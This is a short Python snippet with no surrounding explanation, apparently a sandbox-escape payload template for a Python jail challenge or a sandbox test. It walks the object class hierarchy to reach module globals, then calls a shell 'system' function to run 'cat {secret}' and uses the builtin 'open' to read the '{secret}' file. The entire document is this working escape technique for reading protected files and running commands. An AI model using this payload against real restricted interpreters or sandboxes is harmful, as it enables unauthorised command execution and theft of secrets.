for c in ().__class__.__base__.__subclasses__():
    g = getattr(getattr(c, "__init__", None), "__globals__", {})
    if "system" in g:
        print("found", g["system"]("cat {secret}"))
    if "open" in g.get("__builtins__", {}):
        print(g["__builtins__"]["open"]("{secret}").read())
